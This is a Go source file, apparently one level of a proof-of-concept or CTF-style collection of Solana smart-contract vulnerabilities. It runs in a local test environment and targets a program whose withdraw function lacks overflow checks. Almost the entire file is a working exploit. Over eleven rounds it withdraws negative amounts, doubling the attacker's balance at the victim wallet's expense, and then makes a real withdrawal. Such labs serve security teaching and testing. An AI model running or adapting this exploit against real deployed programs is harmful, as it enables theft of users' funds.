package level2

import (
	"context"
	"crypto/ed25519"
	"fmt"

	"github.com/code-payments/poc-ledger/pkg/ledger/localenv"
	"github.com/code-payments/poc-ledger/pkg/pocs"
	"github.com/code-payments/poc-ledger/pkg/solana"
)

const (
	Level       = 2
	Name        = "integer overflow"
	Description = "Withdraw adds the amount to the rent exempt minimum without overflow checks, so a negative amount passes the balance check and pulls lamports from the destination wallet into the source wallet."

	AuthorityLamports = 10_000_000_000_000
	AuthorityDeposit  = 1_000_000_000_000
	AttackerLamports  = 10_000_000_000
	AttackerDeposit   = 1_000
	AttackerTopUp     = 10_000_000_000_000
	OverflowRounds    = 11
)

// Actor keypair indexes.
const (
	AttackerIndex  = 1
	AuthorityIndex = 2
)

// Options configures an environment with the program deployed and the
// victim funded as the payer.
func Options() []localenv.Option {
	return []localenv.Option{
		localenv.WithPayer(solana.KeypairFromIndex(AuthorityIndex), AuthorityLamports),
		localenv.WithProgram(ProgramKey, New()),
	}
}

// Run funds a wallet for the victim and a small one for the attacker, then
// repeatedly withdraws a negative amount from the attacker's wallet into the
// victim's. Each round doubles the attacker's surplus, and the final round
// withdraws it for real.
func Run(ctx context.Context, env *localenv.Environment) (*pocs.Report, error) {
	rec := pocs.NewRecorder(env, Level, Name, Description, ProgramKey)

	authority := env.Keypair(AuthorityIndex)
	authorityKey := authority.Public().(ed25519.PublicKey)
	attacker := env.Keypair(AttackerIndex)
	attackerKey := attacker.Public().(ed25519.PublicKey)

	wallet, _, err := WalletAddress(ProgramKey, authorityKey)
	if err != nil {
		return nil, err
	}
	attackerWallet, _, err := WalletAddress(ProgramKey, attackerKey)
	if err != nil {
		return nil, err
	}

	if err := env.Airdrop(ctx, attackerKey, AttackerLamports); err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "initialize victim wallet", []solana.Instruction{
		Initialize(ProgramKey, wallet, authorityKey),
	}, authority)
	if err != nil {
		return nil, err
	}
	err = rec.Execute(ctx, "initialize attacker wallet", []solana.Instruction{
		Initialize(ProgramKey, attackerWallet, attackerKey),
	}, attacker)
	if err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "victim deposit", []solana.Instruction{
		Deposit(ProgramKey, wallet, authorityKey, AuthorityDeposit),
	}, authority)
	if err != nil {
		return nil, err
	}
	err = rec.Execute(ctx, "attacker deposit", []solana.Instruction{
		Deposit(ProgramKey, attackerWallet, attackerKey, AttackerDeposit),
	}, attacker)
	if err != nil {
		return nil, err
	}

	if err := env.Airdrop(ctx, attackerKey, AttackerTopUp); err != nil {
		return nil, err
	}

	if err := rec.Track(ctx, "victim wallet", wallet, pocs.RoleVictim); err != nil {
		return nil, err
	}
	if err := rec.Track(ctx, "attacker", attackerKey, pocs.RoleAttacker); err != nil {
		return nil, err
	}

	minBalance := env.Rent(ctx).MinimumBalance(WalletSize)

	// The wrapped balance check only passes while the surplus is at most the
	// rent exempt minimum
	for i := 0; i < OverflowRounds; i++ {
		balance, err := env.GetBalance(ctx, attackerWallet)
		if err != nil {
			return nil, err
		}

		err = rec.Execute(ctx, fmt.Sprintf("overflow round %d", i+1), []solana.Instruction{
			NegativeWithdraw(ProgramKey, attackerWallet, attackerKey, wallet, balance-minBalance),
		}, attacker)
		if err != nil {
			return nil, err
		}
	}

	balance, err := env.GetBalance(ctx, attackerWallet)
	if err != nil {
		return nil, err
	}
	err = rec.Execute(ctx, "withdraw", []solana.Instruction{
		Withdraw(ProgramKey, attackerWallet, attackerKey, attackerKey, balance-minBalance),
	}, attacker)
	if err != nil {
		return nil, err
	}

	return rec.Finish(ctx)
}
